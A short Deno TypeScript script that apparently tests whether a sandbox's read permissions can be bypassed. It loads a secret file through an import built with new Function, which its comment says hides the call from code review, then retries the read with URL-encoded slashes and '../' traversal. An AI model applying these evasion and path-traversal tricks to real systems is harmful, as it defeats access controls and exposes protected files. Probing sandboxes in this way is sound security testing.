/** By a name that no look at the code finds. */
const load = new Function("path", "return import(path, { with: { type: 'text' } })");

export async function main() {
  const path = `${Deno.env.get("EXPYRUN_CWD")}/secret.txt`;
  const textOf = (name: string) =>
    load(name).then((module: { default: string }) => module.default, String);
  const text = await textOf(path);
  if (!/Requires read access to "[^"]*secret.txt"/.test(text)) return console.log(text);
  // With its separators as numbers.
  const around = path.replaceAll("/", "%2f").replace("%2f", "../".repeat(9));
  console.log((await textOf(around)).includes("hidden") ? "got around" : "refused");
}
